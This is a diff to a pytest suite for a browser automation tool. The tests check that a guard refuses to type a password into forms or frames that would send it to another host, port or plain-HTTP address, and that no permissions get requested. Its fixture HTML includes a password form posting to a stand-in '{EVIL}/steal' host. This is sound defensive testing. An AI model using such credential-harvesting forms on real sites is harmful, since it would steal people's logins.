@@ -7,7 +7,7 @@ from __future__ import annotations
 
 from collections.abc import AsyncIterator, Callable
 from contextlib import suppress
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
 
 import pytest
 import pytest_asyncio
@@ -18,7 +18,7 @@ from pydantic import SecretStr
 from fixtures.stand_in.certificate import make_identity
 from flows.browser import BrowserOptions, open_browser, open_visit
 from flows.errors import ForeignHostError, SecretGuardError
-from flows.hosts import ReadCall
+from flows.hosts import HostPolicy, ReadCall
 from flows.in_page import ask
 from flows.visit import Visit
 
@@ -152,6 +152,7 @@ async def test_a_secret_is_typed_on_a_sign_in_host(world: tuple[Site, Browser, B
 WRONG_PLACES = {
     "form to another host": f"<form action='{EVIL}/steal' method=post><input type=password></form>",
     "form to another port": f"<form action='{HOST}:8443/ap/signin' method=post><input type=password></form>",
+    "frame without a host": "<iframe srcdoc='<input type=password>'></iframe>",
     "form without https": "<form action='http://sellercentral.amazon.com/ap/signin' method=post><input type=password></form>",
 }
 
@@ -162,10 +163,45 @@ async def test_a_secret_is_not_typed_where_it_would_go_elsewhere(world: tuple[Si
     site.pages["/ap/signin"] = WRONG_PLACES[place]
     async with open_visit(browser, options=options) as visit:
         await visit.page.goto(f"{HOST}/ap/signin")
-        (field_,) = await visit.page.query_selector_all("input")
+        field_ = await visit.page.frames[-1].wait_for_selector("input")
+        assert field_ is not None
         with pytest.raises(SecretGuardError):
             await visit.guard.type_secret(field_, PASSWORD)
         assert await field_.input_value() == ""
+
+
+async def test_a_secret_is_not_typed_into_a_frame_of_a_host_that_nobody_signs_in_on(world: tuple[Site, Browser, BrowserOptions]) -> None:
+    site, browser, options = world
+    site.pages["/ap/signin"] = "<iframe src='https://images.amazon.com/field'></iframe>"
+    site.pages["/field"] = "<input type=password>"
+    known = HostPolicy()
+    policy = replace(known, navigation=known.navigation | {"images.amazon.com"})
+    async with open_visit(browser, options=options, policy=policy) as visit:
+        await visit.page.goto(f"{HOST}/ap/signin")
+        field_ = await visit.page.frames[-1].wait_for_selector("input")
+        assert field_ is not None
+        with pytest.raises(SecretGuardError, match=r"images\.amazon\.com"):
+            await visit.guard.type_secret(field_, PASSWORD)
+
+
+ASKING = """async () => ({
+  worker: await navigator.serviceWorker.register('/worker.js').then(r => typeof r?.active, e => 'refused'),
+  notifications: await Notification.requestPermission(),
+  place: await new Promise(done => navigator.geolocation.getCurrentPosition(() => done('told'), e => done(e.code === 1 ? 'denied' : 'late'),
+    {timeout: 3000})),
+  camera: await navigator.mediaDevices.getUserMedia({video: true}).then(() => 'seen', e => e.name),
+})"""
+
+
+async def test_no_service_worker_is_registered_and_no_permission_is_asked_for(world: tuple[Site, Browser, BrowserOptions]) -> None:
+    site, browser, options = world
+    async with open_visit(browser, options=options) as visit:
+        await visit.page.goto(f"{HOST}/home")
+        got = await visit.page.evaluate(ASKING)
+    assert got["notifications"] in ("default", "denied")
+    assert got["place"] == "denied"
+    assert got["camera"] in ("NotAllowedError", "NotFoundError")
+    assert not [line for line in site.asked if "worker.js" in line]
 
 
 async def test_in_rehearsal_a_secret_is_not_typed_into_a_page_of_unknown_origin(world: tuple[Site, Browser, BrowserOptions]) -> None:
